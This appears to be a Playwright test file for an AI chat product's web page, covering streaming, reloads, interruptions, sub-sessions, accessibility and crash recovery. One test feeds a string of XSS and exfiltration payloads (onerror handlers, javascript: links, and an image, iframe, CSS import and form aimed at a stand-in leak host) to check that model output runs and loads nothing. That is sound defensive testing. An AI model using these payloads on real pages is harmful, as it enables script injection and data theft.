"""The chat page in a real browser, against the real product: what a person sees is what is stored."""

import json
import re
from typing import Any

import pytest
from playwright.async_api import expect

from testkit.pool import MakeProduct
from testkit.product import Product
from testkit.wait import until
from tests.page.conftest import Visit
from tests.page.support import log, send, shows_what_is_stored, stored, until_idle

pytestmark = pytest.mark.backends("sqlite")  # the page knows nothing of the database
SLOW = "think: speak 120 [delay=25]"


async def test_a_new_chat_answers_and_gets_its_title(product: Product, visit: Visit) -> None:
    visitor = await visit(product)
    page = await visitor.look()
    await send(page, "What is 12 * (3 + 4)?")
    await expect(log(page)).to_contain_text("= 84")
    await until_idle(page)
    tool = log(page).locator("details", has_text="calculator")
    await tool.locator("summary").click()
    await expect(tool).to_contain_text("Output")
    await expect(page.get_by_role("heading", level=1)).to_have_text(re.compile("What is 12"))
    session = page.url.rpartition("/")[2]
    await shows_what_is_stored(page, product, session)
    await expect(log(page)).to_contain_text("2 rounds")
    assert visitor.hosts == {product.url().split("/")[2]}


async def test_a_reload_in_mid_answer_goes_on_where_it_is(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, SLOW)
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    await page.reload()
    await expect(page.get_by_role("button", name="Stop")).to_be_visible()
    await until_idle(page)
    await shows_what_is_stored(page, product, session)
    assert len(await stored(product, session, "assistant")) == 1


async def test_follow_ups_wait_as_chips_and_stand_where_the_turn_took_them(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, SLOW)
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    with product.servers.model.paused():  # the turn cannot end before both messages wait
        for text in ("And 6 * 7?", "And 9 * 9?"):
            await send(page, text)
        await expect(page.get_by_text("Waits for the next step of the turn")).to_have_count(2)
        await until(lambda: _waiting(product, session, 2), what="two accepted follow-ups")
    await expect(log(page)).to_contain_text("= 42")
    await expect(log(page)).to_contain_text("= 81")
    await until_idle(page)
    await expect(page.get_by_text("Waits for the next step of the turn")).to_have_count(0)
    await shows_what_is_stored(page, product, session)
    assert await stored(product, session, "user") == [SLOW, "And 6 * 7?", "And 9 * 9?"]
    assert len(await product.api.turns(session)) == 1


async def _waiting(product: Product, session: str, count: int) -> bool:
    answer = await product.api.call("GET", f"/sessions/{session}/messages/pending")
    return bool(answer.body["count"] == count)


async def test_stop_keeps_what_was_said(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, "speak 2000 [delay=20]")
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    await page.get_by_role("button", name="Stop").click()
    await until_idle(page)
    await expect(log(page)).to_contain_text("Stopped")
    assert (await product.api.turns(session))[0]["status"] == "cancelled"
    await shows_what_is_stored(page, product, session)
    await send(page, "What is 6 * 7?")
    await expect(log(page)).to_contain_text("= 42")


async def test_a_message_that_interrupts_begins_the_next_turn(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, "speak 2000 [delay=20]")
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    await page.get_by_label("Message", exact=True).fill("What is 6 * 7?")
    await page.get_by_role("button", name="Stop the running turn and send").click()
    await expect(log(page)).to_contain_text("= 42")
    await until_idle(page)
    await shows_what_is_stored(page, product, session)
    assert [turn["status"] for turn in await product.api.turns(session)] == ["completed", "cancelled"]


async def test_a_call_that_is_stopped_did_not_fail(product: Product, visit: Visit) -> None:
    _, page = await (await visit(product)).chat()
    await send(page, "wait 250 s")
    call = log(page).locator("details", has_text="wait")
    await expect(call.get_by_role("img", name="runs")).to_be_visible()
    await page.get_by_role("button", name="Stop").click()
    await until_idle(page)
    for _ in range(2):
        await expect(call).to_contain_text("Stopped")
        await expect(call).not_to_contain_text("Failed")
        await page.reload()


async def test_a_failed_model_call_is_retried_and_its_text_shown_once(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, "speak 40 [delay=5 fault=drop:20 times=1]")
    await until_idle(page)
    await shows_what_is_stored(page, product, session)


async def test_a_failed_turn_says_why(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, "hello [fault=status:400 times=50]")
    await expect(log(page).get_by_role("alert")).to_be_visible()
    await until_idle(page)
    error = (await product.api.turns(session))[0]["error"]
    await expect(log(page).get_by_role("alert")).to_have_text(error)


async def test_a_sub_session_opens_and_leads_back(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, "delegate: what is 17 * 23?; wait 1 s")
    await expect(log(page).get_by_role("region", name="Sub-session")).to_have_count(2)
    await until_idle(page)
    await page.get_by_role("link", name="Sub-sessions as a tree").click()
    await expect(page.get_by_role("listitem")).to_have_count(
        3 + await page.get_by_role("navigation").get_by_role("listitem").count()
    )
    await page.go_back()
    await log(page).get_by_role("link", name="Open").first.click()
    await expect(log(page)).to_contain_text("= 391")
    await page.get_by_role("link", name="Back to the chat that started it").click()
    await expect(log(page)).to_contain_text("delegate:")
    assert page.url.endswith(session)


async def test_a_sub_session_that_ends_after_a_follow_up_is_shown_as_ended(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await send(page, "delegate: wait 4 s")
    card = log(page).get_by_role("region", name="Sub-session")
    await expect(card).to_contain_text("running")
    await send(page, "And 6 * 7?")  # the delegation answers "running", and is asked again later
    await expect(log(page)).to_contain_text("= 42")
    await until_idle(page)
    await expect(card).to_contain_text("completed")
    await page.reload()
    await expect(card).to_contain_text("completed")
    await expect(log(page).get_by_text(re.compile(r"\d+ rounds"))).to_have_count(1)
    await shows_what_is_stored(page, product, session)


async def test_two_tabs_show_the_same(product: Product, visit: Visit) -> None:
    visitor = await visit(product)
    session, first = await visitor.chat()
    await send(first, SLOW)
    await expect(first.get_by_role("button", name="Stop")).to_be_visible()
    second = await visitor.look(f"/s/{session}")
    await send(second, "And 6 * 7?")
    for page in (first, second):
        await expect(log(page)).to_contain_text("= 42")
        await until_idle(page)
        await shows_what_is_stored(page, product, session)


async def test_offline_and_back(product: Product, visit: Visit) -> None:
    visitor = await visit(product)
    session, page = await visitor.chat()
    await send(page, SLOW)
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    await visitor.context.set_offline(True)
    await send(page, "And 6 * 7?")
    await expect(page.get_by_role("alert")).to_be_visible()
    await expect(page.get_by_label("Message", exact=True)).to_have_value("And 6 * 7?")  # what was typed is not lost
    await visitor.context.set_offline(False)
    await page.get_by_label("Message", exact=True).press("Enter")
    await expect(log(page)).to_contain_text("= 42")
    await until_idle(page)
    await shows_what_is_stored(page, product, session)


async def test_rename_search_and_delete(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await page.reload()
    chats = page.get_by_role("navigation")
    entry = page.locator(f'nav a[href="#/s/{session}"]')
    await entry.hover()
    await (
        chats.get_by_role("listitem").filter(has=page.locator(f'a[href="#/s/{session}"]')).get_by_role("button").click()
    )
    await page.get_by_role("menuitem", name="Rename").click()
    await page.get_by_label("Title").fill("Ünïque 17")
    await page.get_by_role("button", name="Save").click()
    await expect(entry).to_have_text("Ünïque 17")
    await page.get_by_label("Search chats").fill("ünïque")
    await expect(chats.get_by_role("listitem")).to_have_count(1)
    await chats.get_by_role("listitem").get_by_role("button").click()
    await page.get_by_role("menuitem", name="Delete").click()
    await page.get_by_role("button", name="Delete").click()
    await expect(entry).to_have_count(0)
    await expect(page.get_by_text("What can I do for you?")).to_be_visible()
    assert (await product.api.call("GET", f"/sessions/{session}")).status == 404


ATTACKS = """<img src=x onerror="window.hacked=1"> <script>window.hacked=2</script> <svg onload="window.hacked=3"></svg>
[click](javascript:window.hacked=4) ![leak](https://leak.invalid/?q=secret) <iframe src="https://leak.invalid/"></iframe>
<a href="https://leak.invalid/" onclick="window.hacked=5">go</a> $$\\href{javascript:window.hacked=6}{x}$$
<style>@import url(https://leak.invalid/a.css)</style> <form action="https://leak.invalid/"><button>send</button></form>"""


async def test_what_a_model_writes_runs_nothing_and_loads_nothing(product: Product, visit: Visit) -> None:
    visitor = await visit(product)
    _, page = await visitor.chat()
    await send(page, json.dumps({"script": [{"say": ATTACKS + "\n\nthe end"}]}))
    await expect(log(page)).to_contain_text("the end")
    await until_idle(page)
    assert await page.evaluate("window.hacked") is None
    assert visitor.hosts == {product.url().split("/")[2]}
    answer = log(page).locator("[data-streamdown], p, a")
    assert await answer.count() > 0
    links = await log(page).locator("a").evaluate_all("links => links.map(link => link.href)")
    assert not [link for link in links if link.startswith("javascript:")]
    policy = (await page.request.get(product.url())).headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "unsafe-eval" not in policy


async def test_markdown_code_tables_and_mathematics(product: Product, visit: Visit) -> None:
    text = "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\n$$x^2$$\n\n- one\n- two"
    _, page = await (await visit(product)).chat()
    await send(page, json.dumps({"script": [{"say": text}]}))
    await expect(log(page).get_by_role("heading", name="Title")).to_be_visible()
    await expect(log(page).get_by_role("cell", name="2")).to_be_visible()
    await expect(log(page).locator(".katex").first).to_be_visible()
    await expect(log(page).locator("pre")).to_contain_text("print('hi')")


PHONE: dict[str, Any] = {"viewport": {"width": 360, "height": 740}, "has_touch": True, "is_mobile": True}


async def test_on_a_phone(product: Product, visit: Visit) -> None:
    _, page = await (await visit(product, **PHONE)).chat()
    await send(page, "delegate: what is 17 * 23? " + "x" * 200)
    await until_idle(page)
    wide = await page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth")
    assert not wide
    await page.get_by_role("button", name="Open the list of chats").click()
    await page.get_by_role("link", name="New chat").first.click()
    await expect(page.get_by_text("What can I do for you?")).to_be_visible()
    await expect(page.get_by_role("navigation")).to_be_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_no_serious_finding_of_the_accessibility_checker(
    product: Product, visit: Visit, axe: str, scheme: str
) -> None:
    visitor = await visit(product, color_scheme=scheme)
    session, page = await visitor.chat()
    await send(page, "think: what is 17 * 23? delegate: what is 2 * 2?")
    await until_idle(page)
    for path in (f"/s/{session}", f"/s/{session}/tree", "/"):
        await page.goto(f"{product.url()}/#{path}")
        await expect(page.get_by_role("heading", level=1)).to_be_visible()
        await page.evaluate(axe)
        result = await page.evaluate("axe.run()")
        serious = [found for found in result["violations"] if found["impact"] in ("serious", "critical")]
        assert [(f["id"], [n["html"][:200] for n in f["nodes"]]) for f in serious] == [], path


async def test_keyboard_only(product: Product, visit: Visit) -> None:
    page = await (await visit(product)).look()
    await page.keyboard.type("What is 6 * 7?")
    await page.keyboard.press("Enter")
    await expect(log(page)).to_contain_text("= 42")
    await until_idle(page)
    await page.keyboard.type("And 6 * 8?")  # the focus is where the next message is written
    await page.keyboard.press("Enter")
    await expect(log(page)).to_contain_text("= 48")


async def test_a_chat_that_is_not_there(product: Product, visit: Visit) -> None:
    visitor = await visit(product)
    page = await visitor.context.new_page()
    await page.goto(f"{product.url()}/#/s/00000000-0000-0000-0000-000000000000")
    await expect(page.get_by_role("alert")).to_have_text("There is no such chat, or it is not yours.")


async def test_the_title_of_the_tab_tells_of_a_running_turn(product: Product, visit: Visit) -> None:
    _, page = await (await visit(product)).chat()
    await send(page, "speak 60 [delay=20]")
    await until(lambda: _starts_with(page, "●"), what="a mark in the tab's title")
    await until_idle(page)
    assert not (await page.title()).startswith("●")


async def _starts_with(page: Any, mark: str) -> bool:
    return bool((await page.title()).startswith(mark))


async def test_the_api_is_killed_in_mid_answer(make_product: MakeProduct, visit: Visit) -> None:
    product = await make_product()
    session, page = await (await visit(product)).chat()
    await send(page, SLOW)
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    api = product.apis[0]
    product.kill(api)
    await expect(log(page).get_by_role("status")).to_contain_text("The connection is lost")
    await product.start_again(api)
    await expect(log(page).get_by_role("status")).not_to_contain_text("The connection is lost")
    await until_idle(page)
    await shows_what_is_stored(page, product, session)


async def test_the_worker_is_killed_in_mid_answer(make_product: MakeProduct, visit: Visit) -> None:
    product = await make_product()
    session, page = await (await visit(product)).chat()
    await send(page, SLOW)
    await expect(log(page)).to_contain_text(re.compile(r"(\w+ ){10}"))
    worker = product.workers[0]
    product.kill(worker)
    await product.start_again(worker)
    await until_idle(page)
    await shows_what_is_stored(page, product, session)
    assert len(await stored(product, session, "assistant")) == 1


async def test_the_timeline_of_a_turn_and_the_choice_of_a_model(product: Product, visit: Visit) -> None:
    session, page = await (await visit(product)).chat()
    await page.get_by_label("Model", exact=True).select_option("advanced")
    await page.get_by_label("Thinking", exact=True).select_option("high")
    await send(page, "What is 6 * 7?")
    await expect(log(page)).to_contain_text("= 42")
    await until_idle(page)
    await log(page).get_by_role("button", name="Timeline").click()
    bars = page.get_by_role("dialog", name="Timeline").get_by_role("listitem").filter(has_not_text="Waiting")
    await expect(bars).to_have_count(3)
    await expect(bars.nth(1)).to_contain_text("calculator")
    await page.keyboard.press("Escape")
    assert (await product.api.turns(session))[0]["tier"] == "advanced"
    await page.reload()
    await expect(page.get_by_label("Model", exact=True)).to_have_value("advanced")
    await page.get_by_label("for one message").check()
    await page.get_by_label("Model", exact=True).select_option("standard")
    await send(page, "What is 9 * 9?")
    await expect(log(page)).to_contain_text("= 81")
    await expect(page.get_by_label("Model", exact=True)).to_have_value("advanced")
    assert (await product.api.turns(session))[0]["tier"] == "standard"


async def test_used_limits_are_shown(product: Product, visit: Visit) -> None:
    visitor = await visit(product)
    used = {"percent_used": 100.0, "resets_at": "2026-11-23T00:00:00Z"}
    answer = {"daily": used, "weekly": {**used, "percent_used": 42.5}, "tier": "FREE", "reset_cost": 0}
    await visitor.context.route("**/v1/usage", lambda route: route.fulfill(json=answer))
    page = await visitor.look()
    meters = page.get_by_role("region", name="What you have used").get_by_role("meter")
    await expect(meters).to_have_count(2)
    await expect(meters.last).to_have_attribute("aria-valuenow", "42.5")
